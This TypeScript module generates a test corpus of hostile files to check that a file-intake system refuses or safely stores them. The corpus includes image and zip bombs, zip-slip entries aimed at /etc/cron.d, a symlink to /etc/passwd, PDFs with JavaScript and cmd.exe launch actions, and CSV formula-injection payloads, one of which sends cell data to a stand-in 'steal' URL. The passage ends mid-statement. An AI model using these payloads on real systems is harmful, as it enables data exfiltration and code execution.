import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { TextReader, Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import PDFDocument from 'pdfkit';
import { gbkFixture, readFixture } from '../importers/helpers.ts';
import { makeJpeg, makePdf, makePng, makePngBomb } from './images.ts';

/**
 * A corpus of hostile inputs, generated at run time: image bombs, truncated and lying files, malicious and
 * encrypted PDFs, zip-slip and zip bombs in chat exports and bill archives, hostile file names, broken
 * encodings and spreadsheet formula injection. Each input says what a safe outcome for it is.
 */

export type Category =
  'image-bomb' | 'truncated' | 'lying' | 'pdf' | 'zip' | 'name' | 'encoding' | 'formula' | 'text-bomb';

/**
 * What must happen to the input:
 * - `error`: refused, with its own error matching `match`, and nothing of it filed;
 * - `filed`: filed (as what it is, or as an opaque original); errors about it only where `innerError` says;
 * - `either`: refused with a specific error, or filed — both are safe, as long as nothing leaks.
 */
export type Expectation =
  | { outcome: 'error'; match: RegExp }
  | {
      outcome: 'filed';
      /** Must appear among the filed item's warnings or reading problems (a refused entry, a lie noticed). */
      problem?: RegExp;
      /** Must appear among the errors about this input or what is inside it (`input › entry`). */
      innerError?: RegExp;
    }
  | { outcome: 'either' };

export type HostileInput = {
  id: string;
  category: Category;
  /** The file name on disk (one path segment; may itself be the hostile part). */
  name: string;
  bytes: Buffer;
  expect: Expectation;
};

// ── Small builders ──────────────────────────────────────────────────────────────────────────────────────

type RawZipEntry = {
  name: string | Buffer;
  data: Buffer;
  /** 0 = stored, 8 = deflated (default). */
  method?: 0 | 8;
  /** Lie about the uncompressed size (in both headers). */
  declaredSize?: number;
  crc?: number;
  /** Unix mode in the high 16 bits of the external attributes (symlinks: 0o120777). */
  unixMode?: number;
  isUtf8?: boolean;
};

/**
 * A ZIP written byte by byte, so it can lie: about sizes, CRCs, names (`../x`, `C:\x`, NUL), link modes,
 * or point two entries at the same compressed bytes.
 */
export function rawZip(entries: RawZipEntry[], options: { overlapFirst?: number } = {}): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  const offsets: number[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = typeof e.name === 'string' ? Buffer.from(e.name, 'utf8') : e.name;
    const method = e.method ?? 8;
    const body = method === 8 ? deflateRawSync(e.data) : e.data;
    const crc = e.crc ?? crc32(e.data);
    const size = e.declaredSize ?? e.data.length;
    const flags = e.isUtf8 === false ? 0 : 0x0800;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(0x5a210000, 10);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(Math.min(size, 0xfffffffe), 22);
    local.writeUInt16LE(name.length, 26);
    offsets.push(offset);
    locals.push(local, name, body);
    offset += 30 + name.length + body.length;
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(e.unixMode !== undefined ? 0x031e : 20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(flags, 8);
    c.writeUInt16LE(method, 10);
    c.writeUInt32LE(0x5a210000, 12);
    c.writeUInt32LE(crc, 16);
    c.writeUInt32LE(body.length, 20);
    c.writeUInt32LE(Math.min(size, 0xfffffffe), 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(e.unixMode !== undefined ? (e.unixMode << 16) >>> 0 : 0, 38);
    central.push(c, name);
  }
  // Overlapping entries: every central record after the first points at the first entry's bytes.
  if (options.overlapFirst !== undefined) {
    for (let i = 1; i < entries.length; i++) central[i * 2]!.writeUInt32LE(offsets[0]!, 42);
  }
  entries.forEach((_, i) => {
    if (options.overlapFirst === undefined) central[i * 2]!.writeUInt32LE(offsets[i]!, 42);
  });
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

async function zipOf(
  entries: [name: string, content: string | Buffer][],
  options: { password?: string; level?: number } = {},
): Promise<Buffer> {
  const writer = new ZipWriter(new Uint8ArrayWriter(), {
    useWebWorkers: false,
    ...(options.password ? { password: options.password, encryptionStrength: 3 as const } : {}),
  });
  for (const [name, content] of entries) {
    const reader = typeof content === 'string' ? new TextReader(content) : new Uint8ArrayReader(content);
    await writer.add(name, reader, { level: options.level ?? 6 });
  }
  return Buffer.from(await writer.close());
}

/** A PDF with the given objects (1 = catalog) and a correct cross-reference table, unless told to lie. */
export function rawPdf(
  objects: (string | Buffer)[],
  options: { trailer?: string; xrefOffsets?: 'wrong' | 'missing'; header?: string } = {},
): Buffer {
  const parts: Buffer[] = [Buffer.from(options.header ?? '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(length);
    const body = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof o === 'string' ? Buffer.from(o, 'latin1') : o,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    parts.push(body);
    length += body.length;
  });
  const xrefAt = length;
  let tail = '';
  if (options.xrefOffsets !== 'missing') {
    tail += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
    for (const off of offsets) {
      const at = options.xrefOffsets === 'wrong' ? (off * 7 + 13) % 99_999 : off;
      tail += `${String(at).padStart(10, '0')} 00000 n \n`;
    }
  }
  tail += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  parts.push(Buffer.from(tail, 'latin1'));
  return Buffer.concat(parts);
}

const PAGE_OBJECTS = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
];
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const stream = (content: string | Buffer, dict = '') => {
  const data = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  return Buffer.concat([
    Buffer.from(`<< /Length ${data.length} ${dict} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from('\nendstream', 'latin1'),
  ]);
};
const TEXT = stream('BT /F1 12 Tf 72 720 Td (Statement 2025-08 total 39.90 CNY) Tj ET');

function pdfkitPdf(options: PDFKit.PDFDocumentOptions, text: string): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const doc = new PDFDocument({ ...options, info: { CreationDate: new Date('2025-08-27T00:01:12Z') } });
    const chunks: Buffer[] = [];
    doc.on('data', (c: Buffer) => chunks.push(c));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.on('error', reject);
    doc.text(text);
    doc.end();
  });
}

const u32be = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  return Buffer.concat([u32be(data.length), body, u32be(crc32(body))]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, bitDepth: number, colorType: number): Buffer {
  const d = Buffer.alloc(13);
  d.writeUInt32BE(width, 0);
  d.writeUInt32BE(height, 4);
  d[8] = bitDepth;
  d[9] = colorType;
  return pngChunk('IHDR', d);
}

/** A real, valid 1-bit PNG of `width`×`height` white pixels: a few KB that decode to a huge canvas. */
function validBigPng(width: number, height: number): Buffer {
  const row = Buffer.alloc(1 + Math.ceil(width / 8), 0xff);
  row[0] = 0;
  const raw = Buffer.alloc(row.length * height);
  for (let y = 0; y < height; y++) row.copy(raw, y * row.length);
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(width, height, 1, 0),
    pngChunk('IDAT', deflateSync(raw, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG whose frame header is rewritten to claim `width`×`height`. */
function patchJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length - 9; i++) {
    if (out[i] === 0xff && out[i + 1]! >= 0xc0 && out[i + 1]! <= 0xc2) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
  }
  throw new Error('no SOF marker in the JPEG');
}

/** A JPEG carrying an EXIF block whose IFD chain loops back on itself and whose counts lie. */
function jpegWithLoopingExif(jpeg: Buffer): Buffer {
  const tiff = Buffer.alloc(64);
  tiff.write('II', 0, 'latin1');
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(8, 4); // IFD0 at 8
  tiff.writeUInt16LE(2, 8); // two entries
  // Make (0x010f), ASCII, a count of 4 GB pointing far outside.
  tiff.writeUInt16LE(0x010f, 10);
  tiff.writeUInt16LE(2, 12);
  tiff.writeUInt32LE(0xfffffff0, 14);
  tiff.writeUInt32LE(0x7ffffff0, 18);
  // ExifIFD pointer (0x8769) back to IFD0 itself.
  tiff.writeUInt16LE(0x8769, 22);
  tiff.writeUInt16LE(4, 24);
  tiff.writeUInt32LE(1, 26);
  tiff.writeUInt32LE(8, 30);
  tiff.writeUInt32LE(8, 34); // next IFD = IFD0 again
  const app1Body = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
  const app1 = Buffer.concat([Buffer.from([0xff, 0xe1]), Buffer.alloc(2), app1Body]);
  app1.writeUInt16BE(app1Body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), app1, jpeg.subarray(2)]);
}

async function smallWorkbook(rows: (string | number)[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Sheet1');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

const WECHAT_HEADER = [
  '交易时间',
  '交易类型',
  '交易对方',
  '商品',
  '收/支',
  '金额(元)',
  '支付方式',
  '当前状态',
  '交易单号',
  '商户单号',
  '备注',
];
const ALIPAY_HEADER =
  '交易时间,交易分类,交易对方,对方账号,商品说明,收/支,金额,收/付款方式,交易状态,交易订单号,商家订单号,备注,';

const csvCell = (s: string) => (/[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

/** The spreadsheet formula payloads of OWASP's CSV-injection page, plus the variants that slip past naive filters. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://x.example/steal?d="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '=1+1',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+2',
  '\r=HYPERLINK("http://x.example","y")',
  '＝HYPERLINK("http://x.example","全角")',
  '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
];

function alipayCsv(rows: string[][]): Buffer {
  const head = readFixture('alipay-2023.utf8.csv').toString('utf8').split('\n').slice(0, 16).join('\n');
  const body = rows.map((r) => r.map(csvCell).join(',') + ',').join('\n');
  return iconv.encode(`${head}\n${ALIPAY_HEADER}\n${body}\n`, 'gbk');
}

function wechatCsv(rows: string[][]): Buffer {
  const head = readFixture('wechatpay.csv').toString('utf8').split('\n').slice(0, 16).join('\n');
  const body = rows.map((r) => r.map(csvCell).join(',')).join('\n');
  return Buffer.from(`${head}\n${WECHAT_HEADER.join(',')}\n${body}\n`, 'utf8');
}

function bankCsv(rows: string[][]): Buffer {
  const head =
    'Transaction date,Post date,Description,Billing amount,Billing currency,Transaction status,Merchant name,Credit / Debit';
  return Buffer.from(`${head}\n${rows.map((r) => r.map(csvCell).join(',')).join('\n')}\n`, 'utf8');
}

const chatTxt = () => readFixture('whatsapp-android-dmy.txt');
/** Not a decodable image: only ever used where the archive is refused before any entry is read. */
const tinyJpeg = Buffer.from([
  0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9,
]);

// ── The corpus ──────────────────────────────────────────────────────────────────────────────────────────

const SAFETY_LIMIT = /megapixel safety limit/;
const IMAGE_REFUSED = /image (cannot be read|is damaged or incomplete|has no size|claims|is larger)/;
const IS_NOT = /named ".*" but its content is not/;

export async function hostileCorpus(): Promise<HostileInput[]> {
  const inputs: HostileInput[] = [];
  const add = (category: Category, id: string, name: string, bytes: Buffer, expect: Expectation) =>
    inputs.push({ id, category, name, bytes, expect });

  // Image bombs: headers that claim a canvas far past any screenshot, and real images that decode large.
  const jpeg = await makeJpeg({ width: 64, height: 48 });
  const png = await makePng(200, 400, 4);
  add('image-bomb', 'png-100000x100000', 'bomb-100k.png', makePngBomb(100_000, 100_000), {
    outcome: 'error',
    match: SAFETY_LIMIT,
  });
  add(
    'image-bomb',
    'png-40000x40000-rgba',
    'bomb-40k.png',
    Buffer.concat([
      PNG_SIGNATURE,
      ihdr(40_000, 40_000, 8, 6),
      pngChunk('IDAT', deflateSync(Buffer.alloc(4096))),
      pngChunk('IEND', Buffer.alloc(0)),
    ]),
    { outcome: 'error', match: SAFETY_LIMIT },
  );
  add('image-bomb', 'png-1x4000000000', 'bomb-tall.png', makePngBomb(1, 0x7fffffff), {
    outcome: 'error',
    match: IMAGE_REFUSED,
  });
  add('image-bomb', 'jpeg-65000x65000', 'bomb.jpg', patchJpegSize(jpeg, 65_000, 65_000), {
    outcome: 'error',
    match: SAFETY_LIMIT,
  });
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(16_383, 4, 3);
  vp8x.writeUIntLE(16_383, 7, 3);
  const webpBody = Buffer.concat([Buffer.from('WEBPVP8X', 'latin1'), Buffer.from([10, 0, 0, 0]), vp8x]);
  const webpSize = Buffer.alloc(4);
  webpSize.writeUInt32LE(webpBody.length);
  add(
    'image-bomb',
    'webp-16384x16384',
    'bomb.webp',
    Buffer.concat([Buffer.from('RIFF', 'latin1'), webpSize, webpBody]),
    { outcome: 'error', match: IMAGE_REFUSED },
  );
  const gif = Buffer.concat([
    Buffer.from('GIF89a', 'latin1'),
    Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0]),
    Buffer.from([0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 2, 2, 0x44, 0x01, 0, 0x3b]),
  ]);
  add('image-bomb', 'gif-65535x65535', 'bomb.gif', gif, { outcome: 'error', match: IMAGE_REFUSED });
  const tiff = Buffer.alloc(8 + 2 + 12 * 4 + 4);
  tiff.write('II', 0, 'latin1');
  tiff.writeUInt16LE(42, 2);
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(4, 8);
  [
    [256, 100_000],
    [257, 100_000],
    [258, 8],
    [273, 0],
  ].forEach(([tag, value], i) => {
    tiff.writeUInt16LE(tag!, 10 + i * 12);
    tiff.writeUInt16LE(4, 12 + i * 12);
    tiff.writeUInt32LE(1, 14 + i * 12);
    tiff.writeUInt32LE(value!, 18 + i * 12);
  });
  add('image-bomb', 'tiff-100000x100000', 'bomb.tif', tiff, { outcome: 'error', match: IMAGE_REFUSED });
  const bmp = Buffer.alloc(54);
  bmp.write('BM', 0, 'latin1');
  bmp.writeUInt32LE(54, 10);
  bmp.writeUInt32LE(40, 14);
  bmp.writeInt32LE(100_000, 18);
  bmp.writeInt32LE(100_000, 22);
  bmp.writeUInt16LE(1, 26);
  bmp.writeUInt16LE(24, 28);
  add('image-bomb', 'bmp-100000x100000', 'bomb.bmp', bmp, { outcome: 'error', match: IMAGE_REFUSED });
  add(
    'image-bomb',
    'png-zero-size',
    'zero.png',
    Buffer.concat([PNG_SIGNATURE, ihdr(0, 0, 8, 2), pngChunk('IEND', Buffer.alloc(0))]),
    { outcome: 'error', match: IMAGE_REFUSED },
  );
  // Valid and under the limit, but 100 megapixels from 15 KB: it must decode in bounded memory, or be refused.
  add('image-bomb', 'png-valid-10000x10000-1bit', 'big-but-valid.png', validBigPng(10_000, 10_000), {
    outcome: 'either',
  });
  // A text chunk that inflates to 64 MB, and image data that inflates far past what the header needs.
  add(
    'image-bomb',
    'png-ztxt-bomb',
    'ztxt-bomb.png',
    Buffer.concat([
      png.subarray(0, 33),
      pngChunk(
        'zTXt',
        Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(64 << 20, 0x41))]),
      ),
      png.subarray(33),
    ]),
    { outcome: 'either' },
  );
  add(
    'image-bomb',
    'png-idat-overflow',
    'idat-overflow.png',
    Buffer.concat([
      PNG_SIGNATURE,
      ihdr(64, 64, 8, 0),
      pngChunk('IDAT', deflateSync(Buffer.alloc(64 << 20))),
      pngChunk('IEND', Buffer.alloc(0)),
    ]),
    { outcome: 'either' },
  );
  add('image-bomb', 'jpeg-looping-exif', 'looping-exif.jpg', jpegWithLoopingExif(jpeg), {
    outcome: 'either',
  });
  add(
    'image-bomb',
    'heic-header-only',
    'header-only.heic',
    Buffer.concat([
      Buffer.from([0, 0, 0, 0x18]),
      Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
      Buffer.alloc(256, 0xee),
    ]),
    { outcome: 'either' },
  );
  add(
    'image-bomb',
    'svg-billion-laughs',
    'laughs.svg',
    Buffer.from(
      `<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>\n`,
    ),
    { outcome: 'filed' },
  );

  // Truncated files of every type intake reads.
  const pdf = makePdf('Statement 2025-08 total 39.90 CNY');
  const workbook = await smallWorkbook([
    WECHAT_HEADER,
    [
      '2025-12-10 17:19:40',
      '商户消费',
      '美团',
      '/',
      '支出',
      '¥50.71',
      '零钱',
      '支付成功',
      '4200000001',
      '/',
      '/',
    ],
  ]);
  const billZip = await zipOf([
    ['支付宝交易明细.csv', gbkFixture('alipay-2023.utf8.csv')],
    ['readme.txt', 'bill'],
  ]);
  const waZip = await zipOf([
    ['WhatsApp Chat with Ana.txt', chatTxt()],
    ['IMG-20190130-WA0001.jpg', jpeg],
  ]);
  const eml = readFixture('renewal-html.eml');
  const emlWithAttachment = Buffer.from(
    [
      'From: bank@example.com',
      'To: me@example.com',
      'Subject: Statement',
      'Date: Tue, 1 Oct 2024 00:42:18 +0800',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="b"',
      '',
      '--b',
      'Content-Type: text/plain',
      '',
      'Attached.',
      '--b',
      'Content-Type: application/pdf',
      'Content-Disposition: attachment; filename="statement.pdf"',
      'Content-Transfer-Encoding: base64',
      '',
      pdf.toString('base64').replace(/.{76}/g, '$&\n'),
      '--b--',
      '',
    ].join('\r\n'),
  );
  const cut = (b: Buffer, fraction: number) => b.subarray(0, Math.max(1, Math.floor(b.length * fraction)));
  add('truncated', 'png-half', 'cut.png', cut(png, 0.5), { outcome: 'error', match: IMAGE_REFUSED });
  add('truncated', 'png-signature-only', 'sig-only.png', PNG_SIGNATURE, {
    outcome: 'error',
    match: IMAGE_REFUSED,
  });
  add('truncated', 'jpeg-half', 'cut.jpg', cut(jpeg, 0.5), { outcome: 'error', match: IMAGE_REFUSED });
  add('truncated', 'jpeg-soi-only', 'soi-only.jpg', Buffer.from([0xff, 0xd8, 0xff]), {
    outcome: 'error',
    match: IMAGE_REFUSED,
  });
  add('truncated', 'webp-half', 'cut.webp', cut(await makeWebp(), 0.5), {
    outcome: 'error',
    match: IMAGE_REFUSED,
  });
  add('truncated', 'pdf-half', 'cut.pdf', cut(pdf, 0.5), { outcome: 'error', match: /PDF is incomplete/ });
  add('truncated', 'pdf-header-only', 'header-only.pdf', Buffer.from('%PDF-1.7\n'), {
    outcome: 'error',
    match: /PDF is incomplete/,
  });
  add('truncated', 'xlsx-half', 'cut.xlsx', cut(workbook, 0.5), { outcome: 'either' });
  add('truncated', 'xlsx-100-bytes', 'stub.xlsx', workbook.subarray(0, 100), { outcome: 'either' });
  add('truncated', 'bill-zip-half', 'cut-bill.zip', cut(billZip, 0.6), { outcome: 'either' });
  add('truncated', 'whatsapp-zip-half', 'WhatsApp Chat with Ana cut.zip', cut(waZip, 0.5), {
    outcome: 'either',
  });
  add('truncated', 'eml-cut-in-headers', 'cut-headers.eml', eml.subarray(0, 60), { outcome: 'either' });
  add('truncated', 'eml-cut-in-attachment', 'cut-attachment.eml', cut(emlWithAttachment, 0.7), {
    outcome: 'either',
  });
  add(
    'truncated',
    'alipay-csv-cut-mid-character',
    'alipay-cut.csv',
    gbkFixture('alipay-2023.utf8.csv').subarray(0, 1201),
    { outcome: 'filed' },
  );
  add(
    'truncated',
    'wechat-csv-cut-in-quotes',
    'wechat-cut.csv',
    wechatCsv([
      [
        '2025-12-10 17:19:40',
        '商户消费',
        '"美团',
        '物美',
        '支出',
        '¥50.71',
        '零钱',
        '支付成功',
        '42',
        '/',
        '/',
      ],
    ]).subarray(0, -20),
    { outcome: 'filed' },
  );
  add('truncated', 'ofx-cut', 'cut.ofx', cut(readFixture('bank-v220.ofx'), 0.5), { outcome: 'filed' });

  // Lying files: the name says one thing, the bytes another.
  add('lying', 'jpg-is-pdf', 'photo-is-pdf.jpg', makePdf('really a pdf'), {
    outcome: 'filed',
    problem: /really a PDF/,
  });
  add('lying', 'csv-is-png', 'bill-is-png.csv', await makePng(30, 30, 9), {
    outcome: 'filed',
    problem: /really a PNG/,
  });
  add(
    'lying',
    'xlsx-is-zip-of-junk',
    'bill.xlsx',
    await zipOf([['junk.bin', Buffer.from('not a sheet at all')]]),
    { outcome: 'filed', problem: /really a ZIP/ },
  );
  add(
    'lying',
    'eml-is-binary',
    'mail.eml',
    Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 97 + 13) & 0xff)),
    { outcome: 'filed', problem: /not an email message/ },
  );
  add('lying', 'png-is-text', 'screenshot.png', Buffer.from('this is not a picture\n'), {
    outcome: 'error',
    match: IS_NOT,
  });
  add(
    'lying',
    'pdf-is-html-with-script',
    'statement.pdf',
    Buffer.from('<!doctype html><script>alert(document.cookie)</script>'),
    { outcome: 'error', match: IS_NOT },
  );
  add(
    'lying',
    'docx-is-exe',
    'contract.docx',
    Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(200, 0x90)]),
    { outcome: 'error', match: IS_NOT },
  );
  add(
    'lying',
    'txt-is-elf',
    'notes.txt',
    Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'), Buffer.alloc(120)]),
    { outcome: 'filed', problem: IS_NOT },
  );
  add('lying', 'zip-is-png', 'archive.zip', await makePng(20, 20, 11), {
    outcome: 'filed',
    problem: /really a PNG/,
  });
  add('lying', 'mp4-is-text', 'video.mp4', Buffer.from('not a video\n'), { outcome: 'error', match: IS_NOT });
  add(
    'lying',
    'pdf-zip-polyglot',
    'polyglot.pdf',
    Buffer.concat([makePdf('polyglot'), await zipOf([['../../evil-polyglot.txt', 'x']])]),
    { outcome: 'either' },
  );

  // Malicious PDFs: active content must never run, and a hostile structure must not hang or blow up.
  add(
    'pdf',
    'pdf-javascript-openaction',
    'js.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript << /Names [(x) 6 0 R] >> >> >>',
      ...PAGE_OBJECTS,
      TEXT,
      FONT,
      "<< /S /JavaScript /JS (app.alert('pwned'); this.exportDataObject({cName: 'x', nLaunch: 2});) >>",
    ]),
    { outcome: 'filed' },
  );
  add(
    'pdf',
    'pdf-launch-action',
    'launch.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
      ...PAGE_OBJECTS,
      TEXT,
      FONT,
    ]),
    { outcome: 'filed' },
  );
  add(
    'pdf',
    'pdf-uri-and-submitform',
    'uri.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://x.example/beacon) >> /AA << /WC << /S /SubmitForm /F << /FS /URL /F (http://x.example/) >> >> >> >>',
      ...PAGE_OBJECTS,
      TEXT,
      FONT,
    ]),
    { outcome: 'filed' },
  );
  add(
    'pdf',
    'pdf-embedded-exe',
    'attachment.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(../../evil-embedded.exe) 6 0 R] >> >> >>',
      ...PAGE_OBJECTS,
      TEXT,
      FONT,
      '<< /Type /Filespec /F (../../evil-embedded.exe) /EF << /F 7 0 R >> >>',
      stream('MZ fake executable', '/Type /EmbeddedFile'),
    ]),
    { outcome: 'filed' },
  );
  const many = Array.from({ length: 30_000 }, (_, i) => `<< /N ${i} >>`);
  add(
    'pdf',
    'pdf-30000-objects',
    'many-objects.pdf',
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE_OBJECTS, TEXT, FONT, ...many]),
    { outcome: 'filed' },
  );
  add(
    'pdf',
    'pdf-claims-a-billion-pages',
    'billion-pages.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>',
      PAGE_OBJECTS[1]!,
      TEXT,
      FONT,
    ]),
    { outcome: 'either' },
  );
  add(
    'pdf',
    'pdf-deeply-nested-arrays',
    'nested-arrays.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /X 6 0 R >>',
      ...PAGE_OBJECTS,
      TEXT,
      FONT,
      `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
    ]),
    { outcome: 'either' },
  );
  add(
    'pdf',
    'pdf-deeply-nested-dicts',
    'nested-dicts.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R /X 6 0 R >>',
      ...PAGE_OBJECTS,
      TEXT,
      FONT,
      `${'<< /A '.repeat(50_000)}1${' >>'.repeat(50_000)}`,
    ]),
    { outcome: 'either' },
  );
  add(
    'pdf',
    'pdf-page-tree-cycle',
    'cycle.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
      PAGE_OBJECTS[1]!,
      TEXT,
      FONT,
    ]),
    { outcome: 'error', match: /PDF is damaged/ },
  );
  add(
    'pdf',
    'pdf-broken-xref',
    'broken-xref.pdf',
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE_OBJECTS, TEXT, FONT], { xrefOffsets: 'wrong' }),
    { outcome: 'either' },
  );
  add(
    'pdf',
    'pdf-no-xref',
    'no-xref.pdf',
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE_OBJECTS, TEXT, FONT], { xrefOffsets: 'missing' }),
    { outcome: 'either' },
  );
  add(
    'pdf',
    'pdf-prev-loop',
    'prev-loop.pdf',
    rawPdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE_OBJECTS, TEXT, FONT], { trailer: '/Prev 9' }),
    { outcome: 'either' },
  );
  add(
    'pdf',
    'pdf-content-deflate-bomb',
    'deflate-bomb.pdf',
    rawPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...PAGE_OBJECTS,
      stream(deflateSync(Buffer.alloc(256 << 20, 0x20), { level: 9 }), '/Filter /FlateDecode'),
      FONT,
    ]),
    { outcome: 'error', match: /decompression bomb/ },
  );
  add(
    'pdf',
    'pdf-encrypted-aes256-no-password',
    'locked-aes.pdf',
    await pdfkitPdf(
      { userPassword: 'secret', ownerPassword: 'owner', pdfVersion: '1.7ext3' },
      'Statement 2025-08',
    ),
    { outcome: 'filed', innerError: /password-protected/ },
  );
  add(
    'pdf',
    'pdf-encrypted-rc4-no-password',
    'locked-rc4.pdf',
    await pdfkitPdf({ userPassword: 'secret', pdfVersion: '1.4' }, 'Statement 2025-08'),
    { outcome: 'filed', innerError: /password-protected/ },
  );
  add(
    'pdf',
    'pdf-garbage-body',
    'garbage.pdf',
    Buffer.concat([
      Buffer.from('%PDF-1.4\n'),
      Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 31 + 7) & 0xff)),
      Buffer.from('\n%%EOF\n'),
    ]),
    { outcome: 'error', match: /PDF is damaged/ },
  );

  // Zip-slip and zip bombs, in WhatsApp chat exports (named so the WhatsApp reader claims them) and bills.
  const chat = chatTxt();
  const wa = (id: string, entries: RawZipEntry[], expect: Expectation = { outcome: 'filed' }, options = {}) =>
    add(
      'zip',
      `whatsapp-${id}`,
      `WhatsApp Chat with ${id}.zip`,
      rawZip([{ name: 'WhatsApp Chat with Ana.txt', data: chat }, ...entries], options),
      expect,
    );
  wa('slip-dotdot', [
    { name: '../../evil-dotdot.jpg', data: jpeg },
    { name: '../../../../../../tmp/evil-deep.txt', data: Buffer.from('x') },
  ]);
  wa('slip-absolute', [
    { name: '/tmp/evil-absolute.jpg', data: jpeg },
    { name: '/etc/cron.d/evil', data: Buffer.from('* * * * * root id') },
  ]);
  wa('slip-windows', [
    { name: 'C:\\..\\..\\evil-win.jpg', data: jpeg },
    { name: '..\\..\\evil-backslash.jpg', data: jpeg },
  ]);
  wa(
    'symlink-entry',
    [{ name: 'IMG-20190130-WA0009.jpg', data: Buffer.from('/etc/passwd'), method: 0, unixMode: 0o120777 }],
